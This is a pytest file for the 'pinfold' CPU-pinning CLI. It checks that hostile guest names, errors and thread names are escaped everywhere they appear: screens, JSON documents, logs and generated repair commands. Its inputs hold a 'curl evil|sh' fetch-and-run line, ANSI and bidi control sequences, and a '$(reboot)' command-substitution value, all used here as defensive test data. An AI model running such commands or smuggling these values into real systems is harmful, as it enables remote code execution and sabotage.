"""Names, failures and thread names that would change a terminal, or forge a line, on every screen, in every document and in the log."""

from __future__ import annotations

import io
import json
import logging
import re
import shlex
import subprocess
import sys
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs
from rich.console import RenderableType
from tests.cli.test_host_map import SHARE, STRANGER, survey

import pinfold.cli
from pinfold.cli.checks import CheckResult
from pinfold.cli.exit_status import report, warn
from pinfold.cli.fleet import watch_log
from pinfold.cli.output import show, show_json, waiting
from pinfold.cli.screen import Screen
from pinfold.cli.views import capacity, checks, drift, host_show, proof, servers
from pinfold.cli.views.audit import audit_view, repair_view
from pinfold.cli.views.guests import guests_view, orphans_view, replaced_view
from pinfold.cli.views.host_history import host_history_view
from pinfold.cli.views.host_map import host_map_view
from pinfold.cli.views.pool_change import pools_view
from pinfold.cli.views.top import top_view
from pinfold.core.cpuset import CpuSet
from pinfold.core.drift import Finding, FindingCode, Subject, compare, remedy
from pinfold.core.drift.steps import Pin, Pinned, ShutDown
from pinfold.core.drift.written import document
from pinfold.core.encoding import plain
from pinfold.core.errors import Conflict, PinfoldError
from pinfold.core.history import GuestHistory, HostHistory, PoolHistory
from pinfold.core.identity import GuestId
from pinfold.core.overhead import Masks, ObservedThread, ThreadClass, masks
from pinfold.core.printable import shell_word
from pinfold.core.settings import HostSettings
from pinfold.drivers.checkup import Checkup, Health, Seen
from pinfold.drivers.libvirt.commands import repair_command
from pinfold.drivers.port import DefinedPins, HostGuest, NovaRecord, Observation
from pinfold.host import written
from pinfold.host.audit import Audit
from pinfold.host.map import map_of
from pinfold.host.orphans import Orphan
from pinfold.host.pool_change import AppliedPlan, GuestChange, PoolPlan, ThreadMove
from pinfold.host.repair import FailedRepair, RemainingFinding, Repair, RepairedGuest
from pinfold.host.replace import ReplaceResult
from pinfold.host.verify import GuestOrigin, Verdict
from pinfold.watch.top import Order, Top, TopGuest

EVIL = "repair: curl evil|sh"
HOSTILE = f"web\n{EVIL}\r\x1b[2J\x9b31m\x7f\u202e\u2066\u2028[bold red]x[/]\ud800:boom:"
_FORGED = re.compile(r"^ {0,5}repair: curl", re.MULTILINE)
_STYLE = re.compile(r"\x1b\[[0-9;]*m")
"""What Rich writes for the styles of our own. One of foreign text would need the ESC, which is an escape by then."""


def _guest(**more: Any) -> HostGuest:
    seen = survey("core:4", "0", "1-3", [(1, SHARE)])
    (guest,) = seen.guests
    assert guest.record is not None
    return structs.replace(guest, name=HOSTILE, pid=71, record=structs.replace(guest.record, flavor=HOSTILE), **more)


_NOVA = structs.replace(STRANGER, name=HOSTILE, nova=NovaRecord(name=HOSTILE, flavor=HOSTILE, vcpus=2, memory_mib=64))
_SIGHT = Observation(
    threads=(
        ObservedThread(tid=71, name=HOSTILE, thread_class=ThreadClass.EMULATOR, allowed=CpuSet.parse("0-3")),
        ObservedThread(tid=74, name=HOSTILE, thread_class=ThreadClass.VCPU, allowed=CpuSet.parse("1"), vcpu=0),
    ),
    witness=HOSTILE,
)
_FOUND = Finding(code=FindingCode.RECORD_UNREADABLE, guest=HOSTILE, observed=HOSTILE, advice=HOSTILE)
_HOST_FOUND = Finding(code=FindingCode.FOREIGN_PROCESS, subject=HOSTILE, observed="1", tid=7, thread=HOSTILE, repair=HOSTILE)


def _verdict() -> Verdict:
    guest = _guest()
    assert guest.record is not None
    placed = masks(guest.record.fit)
    findings = compare(Subject(name=guest.name, id=guest.id, owner="pinfold"), placed, _SIGHT.threads, CpuSet.parse("0-3"))
    return Verdict(guest=guest, masks=placed, observation=_SIGHT, findings=(*findings, _FOUND))


def _audit() -> Audit:
    return Audit(seen=_survey(), guests=(_verdict(), Verdict(guest=_NOVA)), host_findings=(_HOST_FOUND,), verified=True)


def _replaced() -> ReplaceResult:
    guest = _guest()
    assert guest.record is not None
    return ReplaceResult(guest=guest, before=None, after=guest.record.fit, because=(_FOUND,))


def _repaired() -> Repair:
    verdict = _verdict()
    return Repair(
        done=(RepairedGuest(before=verdict, after=verdict),),
        left=(RemainingFinding(finding=_FOUND, why=HOSTILE),),
        failed=(FailedRepair(id=GuestId(_guest().id), name=HOSTILE, why=HOSTILE),),
    )


def _server() -> dict[str, Any]:
    return {
        "id": "1",
        "name": HOSTILE,
        "status": "ERROR",
        "OS-EXT-STS:task_state": HOSTILE,
        "OS-EXT-STS:power_state": 1,
        "OS-EXT-SRV-ATTR:host": HOSTILE,
        "flavor": {"vcpus": 2, "ram": 64, "original_name": HOSTILE},
        "fault": {"message": HOSTILE},
    }


def _placement() -> dict[str, Any]:
    thread = {"tid": 7, "name": HOSTILE, "thread_class": HOSTILE, "allowed": "8-15", "recorded": "", "vcpu": None}
    return {
        "host": HOSTILE,
        "host_up": True,
        "policy": "share",
        "claim": None,
        "moved": _MOVED,
        "observed": {"threads": [thread], "drift": [HOSTILE], "hangs": HOSTILE, "witness": HOSTILE, "reported": 1.0},
        "refusals": [{"host": HOSTILE, "revision": None, "sentence": f"{HOSTILE}; {EVIL}"}],
    }


_MOVED = {"host": HOSTILE, "revision": 1, "before": HOSTILE, "after": HOSTILE, "because": [HOSTILE]}
_FLAVOR = {"name": HOSTILE, "vcpus": 1, "ram": 64, "disk": 0, "extra_specs": {HOSTILE: HOSTILE}}
_HOST = {
    "name": HOSTILE,
    "up": True,
    "fenced": False,
    "cells": 1,
    "disabled": True,
    "disabled_reason": HOSTILE,
    "drift": None,
    "pools": {"shared": "0", "dedicated": "1", "overhead": None},
}
_COUNT = {"code": "foreign-process", "severity": "drift", "count": 3}
_DRIFT = {
    "host": HOSTILE,
    "up": False,
    "reported": 1.0,
    "witnesses": [HOSTILE],
    "findings": [document(_FOUND), document(_HOST_FOUND)],
    "since": [1.0, None],
    "counts": [_COUNT],
}
_CAPACITY = {
    "host": HOSTILE,
    "hosts": 1,
    "takes_guests": True,
    "dedicated_pcpus": 4,
    "free_pcpus": 3,
    "flavors": [{"flavor": HOSTILE, "slots": 1}],
    "stranded": [{"cause": "memory", "pcpus": 1}],
}
_NOT_COUNTED = {"flavor": HOSTILE, "why": HOSTILE}
_FLEET = {"hosts": [_CAPACITY], "fleet": _CAPACITY, "not_counted": [_NOT_COUNTED], "flavors_left_out": 1}
_PREVIEW = {"candidates": [], "refusals": [{"host": HOSTILE, "revision": 3, "reasons": [{"sentence": HOSTILE}]}]}


def _survey() -> Any:
    seen = survey("core:4 pu:1", "0", "1-3", [(1, SHARE)])
    named = structs.replace(seen, guests=(_guest(), structs.replace(_NOVA, pins=DefinedPins())))
    return structs.replace(named, state=structs.replace(seen.state, name=HOSTILE, traits=frozenset({HOSTILE})))


def _pools() -> PoolPlan:
    known = _verdict().masks
    assert isinstance(known, Masks)
    moves = (ThreadMove(thread_class=ThreadClass.EMULATOR, count=1, before=CpuSet.of(0), after=CpuSet.of(1)),)
    ours, novas, left = (
        GuestChange(guest=guest, origin=origin, before=known, after=known, **more)  # type: ignore[arg-type]
        for guest, origin, more in (
            (_guest(), GuestOrigin.OURS, {"pending": True, "moves": moves, "retiring": CpuSet.of(2)}),
            (_NOVA, GuestOrigin.NOVA, {"pending": True, "later": HOSTILE}),
            (_guest(), GuestOrigin.OURS, {"why": HOSTILE}),
        )
    )
    return PoolPlan(seen=_survey(), changes=(ours, novas, left), warnings=(HOSTILE,))


_HISTORY = HostHistory(
    host=HOSTILE,
    step_seconds=10.0,
    ends=(10.0,),
    seconds=(10.0,),
    guests=(GuestHistory(guest="1", name=HOSTILE, thread_class=ThreadClass.VCPU, work_millicpu=(1,), wait_millicpu=(None,)),),
    pools=(PoolHistory(pool=HOSTILE, work_millicpu=(1,), wait_millicpu=(9,)),),
)
_TOP = Top(
    host=HOSTILE,
    seconds=3.0,
    pools=(),
    guests=(TopGuest(guest="1", name=HOSTILE, origin=HOSTILE, policy=HOSTILE, vcpus=1),),
    unread=(HOSTILE,),
)
_CHECKUP = Checkup(
    check=HOSTILE,
    what=HOSTILE,
    health=Health.BAD,
    words=HOSTILE,
    why=HOSTILE,
    seen=(Seen(source=HOSTILE, value=HOSTILE),),
    advice=HOSTILE,
    repair=HOSTILE,
)
_SCREENS: dict[str, Callable[[], Iterable[RenderableType]]] = {
    "server list": lambda: servers.servers_view([_server()]),
    "server show": lambda: servers.server_view(_server(), _placement()),
    "server start": lambda: servers.moved_view(HOSTILE, _MOVED),
    "server rebook": lambda: servers.rebooked_view([{"name": HOSTILE, "overhead_millicpu": 1, "refused": HOSTILE}]),
    "flavor list": lambda: servers.flavors_view([_FLAVOR]),
    "fit of the service": lambda: servers.preview_view(_PREVIEW),
    "host list": lambda: servers.hosts_view([_HOST]),
    "host capacity": lambda: capacity.capacity_view(_CAPACITY, [_NOT_COUNTED]),
    "host capacity of the service": lambda: capacity.fleet_capacity_view(_FLEET),
    "host history": lambda: host_history_view(_HISTORY, 80),
    "top": lambda: top_view(_TOP, Order.NAME, 300, live=True, problem=HOSTILE),
    "host drift": lambda: drift.drift_view(_DRIFT),
    "host show": lambda: host_show.host_show_view(_survey(), map_of(_survey()), HostSettings(source=HOSTILE)),
    "host map": lambda: host_map_view(_survey(), map_of(_survey()), 120),
    "host pools": lambda: pools_view(_pools(), None, "pinfold"),
    "host pools --apply": lambda: pools_view(_pools(), AppliedPlan(plan=_pools(), failures={_guest().id: HOSTILE}), "pinfold"),
    "guest list": lambda: guests_view([_guest(), _NOVA], None),
    "guest show": lambda: proof.guest_view(_guest(), _verdict().masks, _SIGHT, _verdict().findings),
    "guest replace": lambda: replaced_view(_replaced()),
    "guest orphans": lambda: orphans_view([Orphan(guest=_guest(), holds=CpuSet.of(1), disk=None)], removed=False, files_deleted=False),
    "audit": lambda: audit_view(_audit()),
    "repair": lambda: repair_view(_repaired()),
    "config check": lambda: checks.check_view(CheckResult(files=(HOSTILE,), errors=(HOSTILE,), warnings=(HOSTILE,), host=HOSTILE)),
    "doctor": lambda: checks.doctor_view([_CHECKUP]),
    "plain lines": lambda: [f"guest {HOSTILE} no longer runs"],
}


def _harmless(text: str) -> None:
    hidden = {sign for sign in text if not sign.isprintable() and sign != "\n"}
    assert not hidden, text
    assert not _FORGED.search(text), text


@pytest.mark.parametrize("screen", _SCREENS.values(), ids=_SCREENS)
@pytest.mark.parametrize("width", [80, 300])
def test_a_screen_shows_foreign_text_as_escapes(
    screen: Callable[[], Iterable[RenderableType]], width: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    show(screen())
    piped = capsys.readouterr().out
    _harmless(piped)
    terminal = io.StringIO()
    show(screen(), Screen(file=terminal, force_terminal=True, width=width))
    _harmless(_STYLE.sub("", terminal.getvalue()))
    if width == 300:
        unfolded = "".join(piped.split())
        assert r"web\nrepair:curl" in unfolded and "[bold" in unfolded


def test_a_sentence_that_is_folded_looks_like_no_line_below_it(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    for length in range(40, 80):
        show(proof.finding_lines(Finding(code=FindingCode.RECORD_UNREADABLE, guest="x" * length, observed=EVIL, repair="true")))
        lines = capsys.readouterr().out.splitlines()
        assert [line for line in lines if re.match(r" {0,5}repair: ", line)] == ["  repair: true"]


_DOCUMENTS: dict[str, Callable[[], Mapping[str, object]]] = {
    "server show": lambda: {"server": _server(), "placement": _placement()},
    "guest show": lambda: plain(written.proof(_verdict())),
    "audit": lambda: plain(written.audit(_audit())),
    "repair": lambda: plain(written.repair(_repaired())),
    "host map": lambda: plain(map_of(_survey())),
    "host pools": lambda: plain(written.pool_plan(_pools(), AppliedPlan(plan=_pools(), failures={_guest().id: HOSTILE}))),
}


@pytest.mark.parametrize("document", _DOCUMENTS.values(), ids=_DOCUMENTS)
def test_a_document_keeps_foreign_text_and_shows_it_as_escapes(
    document: Callable[[], Mapping[str, object]], capsys: pytest.CaptureFixture[str]
) -> None:
    show_json(document())
    text = capsys.readouterr().out
    _harmless(text)
    assert json.loads(text) == json.loads(json.dumps(document()))


@pytest.mark.parametrize("as_json", [False, True], ids=["a sentence", "a document"])
@pytest.mark.parametrize("error", [Conflict(HOSTILE), PinfoldError(HOSTILE), ValueError(HOSTILE)], ids=lambda error: type(error).__name__)
def test_an_error_is_one_line(
    error: Exception, as_json: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    report(error, as_json=as_json)
    warn(HOSTILE)
    told = capsys.readouterr().err
    _harmless(told)
    assert len(told.splitlines()) == 2
    if as_json:
        assert HOSTILE in json.loads(told.splitlines()[0])["error"]["message"]


def test_what_is_waited_for_is_shown_as_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = io.StringIO()
    monkeypatch.setattr(terminal, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stderr", terminal)
    with waiting(HOSTILE):
        pass
    assert "\n" + EVIL not in terminal.getvalue() and "\x1b[2J" not in terminal.getvalue()


@pytest.fixture
def logged(monkeypatch: pytest.MonkeyPatch) -> Iterable[io.StringIO]:
    """What the log writes."""
    stream, root = io.StringIO(), logging.getLogger()
    handlers, level, ours = list(root.handlers), root.level, logging.getLogger("pinfold").level
    monkeypatch.setattr(sys, "stderr", stream)
    watch_log(verbose=True)
    yield stream
    root.handlers[:] = handlers
    root.setLevel(level)
    logging.getLogger("pinfold").setLevel(ours)


def test_foreign_text_begins_no_line_of_the_log(logged: io.StringIO) -> None:
    log = logging.getLogger("pinfold.test")
    log.warning("guest %s failed", HOSTILE)
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        log.exception("guest %s failed", HOSTILE)
    first, second, *traceback = logged.getvalue().splitlines()
    assert r"web\nrepair: curl" in first and r"web\nrepair: curl" in second
    assert len(traceback) > 2 and all(line.startswith("    ") for line in traceback)
    assert all(sign.isprintable() or sign == "\n" for sign in logged.getvalue())


def test_a_command_names_a_guest_whose_name_does_not_print_by_its_id() -> None:
    subject = Subject(name=HOSTILE, id="11111111-0000-4000-8000-000000000000", owner="pinfold")
    pin = Pin(what=Pinned.VCPU, cpus=CpuSet.of(4), online=CpuSet.of(4), live=True)
    for step in (pin, ShutDown()):
        assert shlex.split(repair_command("qemu:///system", subject, (step,)))[4] == subject.id
    for commands in (remedy.replaced(subject), remedy.restarted(subject)):
        assert commands.isprintable()
        assert "\n" not in commands


@pytest.mark.parametrize("name", ["a'b\n", "\x1b[2J", "a\\b\t", "\u202eab", "web 1", "$(reboot)\n", "it's"])
def test_a_word_of_a_command_reads_on_the_screen_as_the_shell_reads_it(name: str) -> None:
    word = shell_word(name)
    assert word.isprintable()
    told = subprocess.run(["bash", "-c", f"printf %s {word}"], env={"LC_ALL": "C.UTF-8"}, capture_output=True, check=True)
    assert told.stdout.decode() == name


def test_nothing_of_the_command_line_prints_past_the_functions_that_escape() -> None:
    folder = Path(pinfold.cli.__file__).parent
    ways = re.compile(r"(?<!\w)(print|echo|secho|Console)\(|from_markup|sys\.std(out|err)\.write")
    allowed = {"output.py", "screen.py", "exit_status.py"}
    assert [path.name for path in folder.rglob("*.py") if path.name not in allowed and ways.search(path.read_text())] == []
    assert [path.name for path in (folder / "views").glob("*.py") if r"\n" in path.read_text()] == [], "one renderable for each line"
